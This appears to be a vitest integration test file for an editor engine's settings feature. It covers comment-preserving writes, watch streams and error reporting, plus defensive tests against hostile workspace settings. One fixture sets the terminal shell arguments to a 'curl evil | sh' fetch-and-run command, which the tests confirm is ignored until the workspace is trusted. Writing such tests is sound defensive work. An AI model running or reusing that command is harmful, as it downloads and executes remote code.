// The settings capability against the real engine over its WebSocket: user and workspace settings read and written
// (comments kept), followed by `settings.watch` whichever way they change, a broken file reported with its line,
// and the hostile cases: an untrusted clone's settings.json cannot choose the terminal's shell, an oversized or
// deeply nested file is refused without being parsed, a settings file symlinked out of the workspace is not read,
// and nothing is ever written into .git.
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ErrorCode, type Item, type RpcClient } from '@pa/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type StartedEngine, startEngine } from '../support/engine.js';
import { errorOf } from '../support/error-of.js';

type Snapshot = Item<'settings.watch'>;

let root: string;
let outside: string;
let engine: StartedEngine;
let client: RpcClient;

const workspaceFile = () => join(root, '.claudeeditor', 'settings.json');

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'pa-settings-'));
  outside = mkdtempSync(join(tmpdir(), 'pa-settings-outside-'));
  mkdirSync(join(root, '.git'));
  engine = await startEngine({ workspace: root, env: { SHELL: '/bin/sh', ENV: '' } });
  client = await engine.connect();
});

afterAll(async () => {
  await engine?.stop();
  rmSync(root, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

/** Reads snapshots until one satisfies `condition`. */
async function until(iterator: AsyncIterator<Snapshot>, condition: (snapshot: Snapshot) => boolean): Promise<Snapshot> {
  for (;;) {
    const next = await iterator.next();
    if (next.done) throw new Error('settings.watch ended');
    if (condition(next.value)) return next.value;
  }
}

describe('settings files', () => {
  it('writes a user and a workspace setting, keeping the comments of a file edited by hand', async () => {
    writeFileSync(join(engine.dataDir, 'settings.json'), '// mine\n{\n  "editor.tabSize": 2, // two\n}\n');
    await client.call('settings.set', { scope: 'user', key: 'editor.fontSize', value: 18 });
    await client.call('settings.set', { scope: 'workspace', key: 'editor.minimap.enabled', value: false });
    const text = readFileSync(join(engine.dataDir, 'settings.json'), 'utf8');
    expect(text).toContain('// mine');
    expect(text).toContain('// two');
    const snapshot = await client.call('settings.get');
    expect(snapshot.user.values).toEqual({ 'editor.tabSize': 2, 'editor.fontSize': 18 });
    expect(snapshot.workspace?.values).toEqual({ 'editor.minimap.enabled': false });
    expect(JSON.parse(readFileSync(workspaceFile(), 'utf8'))).toEqual({ 'editor.minimap.enabled': false });

    await client.call('settings.set', { scope: 'user', key: 'editor.fontSize' }); // reset
    expect((await client.call('settings.get')).user.values).toEqual({ 'editor.tabSize': 2 });
  });

  it('refuses a value that does not fit its setting, an unknown key and a user-only key in the workspace', async () => {
    const bad = await errorOf(client.call('settings.set', { scope: 'user', key: 'editor.fontSize', value: 'huge' }));
    expect(bad.code).toBe(ErrorCode.BAD_REQUEST);
    const unknown = await errorOf(client.call('settings.set', { scope: 'user', key: 'no.such', value: 1 }));
    expect(unknown.code).toBe(ErrorCode.BAD_REQUEST);
    const scope = await errorOf(
      client.call('settings.set', { scope: 'workspace', key: 'workbench.colorTheme', value: 'light' }),
    );
    expect(scope.code).toBe(ErrorCode.BAD_REQUEST);
  });

  it('follows a change made on disk, by another window and through the JSON view', async () => {
    const other = await engine.connect();
    const watch = client.stream('settings.watch', {});
    const iterator = watch[Symbol.asyncIterator]();
    await until(iterator, () => true);

    writeFileSync(workspaceFile(), '{ "editor.wordWrap": "on" }\n');
    await until(iterator, (s) => s.workspace?.values['editor.wordWrap'] === 'on');

    await other.call('settings.set', { scope: 'user', key: 'editor.lineNumbers', value: 'relative' });
    await until(iterator, (s) => s.user.values['editor.lineNumbers'] === 'relative');

    await other.call('settings.write', {
      file: 'keybindings',
      text: '[{ "key": "ctrl+alt+p", "command": "quickOpen" }]',
    });
    const bound = await until(iterator, (s) => s.keybindings.entries.length === 1);
    expect(bound.keybindings.entries[0]).toEqual({ key: 'ctrl+alt+p', command: 'quickOpen' });
    watch.cancel();
    other.close();
  });

  it('reports a broken file with its line and keeps an unknown key flagged, without failing', async () => {
    writeFileSync(workspaceFile(), '{\n  "editor.tabSize": 3,\n  "my.extension": 1,\n  "editor.fontSize": \n}\n');
    const snapshot = await client.call('settings.get');
    const problems = snapshot.workspace?.problems ?? [];
    expect(problems.find((p) => p.kind === 'syntax')?.line).toBe(5);
    expect(problems.find((p) => p.kind === 'unknown')).toMatchObject({ key: 'my.extension', line: 3 });
    expect(snapshot.workspace?.values['editor.tabSize']).toBe(3);
    // a broken file is not rewritten by a single-setting change (that could lose what the user typed)
    const refused = await errorOf(client.call('settings.set', { scope: 'workspace', key: 'editor.tabSize', value: 2 }));
    expect(refused.code).toBe(ErrorCode.CONFLICT);
  });
});

describe('hostile workspace settings', () => {
  it("ignores an untrusted clone's shell path until the workspace is trusted", async () => {
    writeFileSync(
      workspaceFile(),
      JSON.stringify({
        'terminal.integrated.shell': '/tmp/evil.sh',
        'terminal.integrated.shellArgs': ['-c', 'curl evil | sh'],
        'editor.fontSize': 20,
      }),
    );
    await client.call('workflow.trust.set', { trusted: false });
    const untrusted = await client.call('settings.get');
    expect(untrusted.trusted).toBe(false);
    expect(untrusted.workspace?.values).toEqual({ 'editor.fontSize': 20 });
    expect(untrusted.workspace?.problems.filter((p) => p.kind === 'restricted').map((p) => p.key)).toEqual([
      'terminal.integrated.shell',
      'terminal.integrated.shellArgs',
    ]);

    await client.call('workflow.trust.set', { trusted: true });
    const trusted = await client.call('settings.get');
    expect(trusted.workspace?.values['terminal.integrated.shell']).toBe('/tmp/evil.sh');
    await client.call('workflow.trust.set', { trusted: false });
  });

  it('tells settings.watch readers when the workspace is trusted, so its restricted values apply without reload', async () => {
    writeFileSync(workspaceFile(), JSON.stringify({ 'terminal.integrated.shell': '/bin/bash' }));
    await client.call('workflow.trust.set', { trusted: false });
    const watch = client.stream('settings.watch', {});
    const iterator = watch[Symbol.asyncIterator]();
    const first = await until(iterator, () => true);
    expect(first.trusted).toBe(false);
    expect(first.workspace?.values).toEqual({});

    // nothing on disk changes: only the trust store does
    await client.call('workflow.trust.set', { trusted: true });
    const trusted = await until(iterator, (s) => s.trusted);
    expect(trusted.workspace?.values).toEqual({ 'terminal.integrated.shell': '/bin/bash' });
    expect(trusted.workspace?.problems).toEqual([]);

    await client.call('workflow.trust.set', { trusted: false });
    const revoked = await until(iterator, (s) => !s.trusted);
    expect(revoked.workspace?.values).toEqual({});
    watch.cancel();
  });

  it("starts a terminal with the engine's shell, not the one an untrusted clone names; trusted, with the named one", async () => {
    const marker = join(root, 'ran');
    const script = join(root, 'evil.sh');
    writeFileSync(script, `#!/bin/sh\necho x > '${marker}'\nexec /bin/sh\n`, { mode: 0o755 });
    writeFileSync(workspaceFile(), JSON.stringify({ 'terminal.integrated.shell': script }));
    await client.call('workflow.trust.set', { trusted: false });
    const untrusted = await client.call('terminal.create', { cols: 80, rows: 24 });
    expect(untrusted.shell).toBe('/bin/sh');
    await client.call('terminal.kill', { id: untrusted.id });
    expect(existsSync(marker)).toBe(false);

    await client.call('workflow.trust.set', { trusted: true });
    const trusted = await client.call('terminal.create', { cols: 80, rows: 24 });
    expect(trusted.shell).toBe(script);
    await client.call('terminal.kill', { id: trusted.id });
    await client.call('workflow.trust.set', { trusted: false });
  });

  it('refuses a 10 MB file and a deeply nested one without parsing them', async () => {
    writeFileSync(workspaceFile(), `{"editor.fontFamily": "${'x'.repeat(10 * 1024 * 1024)}"}`);
    const big = await client.call('settings.get');
    expect(big.workspace?.problems[0]?.kind).toBe('too-large');
    expect(big.workspace?.text).toBe('');
    expect(big.workspace?.values).toEqual({});

    writeFileSync(workspaceFile(), `{"editor.fontSize": ${'['.repeat(200_000)}${']'.repeat(200_000)}}`);
    const deep = await client.call('settings.get');
    expect(deep.workspace?.problems[0]).toMatchObject({ kind: 'too-large' });
    expect(deep.workspace?.values).toEqual({});
    expect((await client.call('engine.ping')).pong).toBe(true);
  });

  it('does not read a settings file that is a symlink, nor one whose folder leads out of the workspace', async () => {
    writeFileSync(join(outside, 'secret.json'), '{ "editor.fontSize": 33 }');
    rmSync(workspaceFile());
    symlinkSync(join(outside, 'secret.json'), workspaceFile());
    const linked = await client.call('settings.get');
    expect(linked.workspace?.values).toEqual({});
    expect(linked.workspace?.text).toBe('');

    rmSync(join(root, '.claudeeditor'), { recursive: true });
    symlinkSync(outside, join(root, '.claudeeditor'));
    writeFileSync(join(outside, 'settings.json'), '{ "editor.fontSize": 33 }');
    const escaped = await client.call('settings.get');
    expect(escaped.workspace?.values).toEqual({});
    expect(escaped.workspace?.problems[0]?.message).toMatch(/outside the workspace/);
    const write = await errorOf(client.call('settings.write', { file: 'workspace', text: '{}' }));
    expect(write.code).toBe(ErrorCode.BAD_REQUEST); // confine.ts: "leads outside the workspace through a symlink"
    expect(readFileSync(join(outside, 'settings.json'), 'utf8')).toBe('{ "editor.fontSize": 33 }');
    rmSync(join(root, '.claudeeditor'));
  });
});
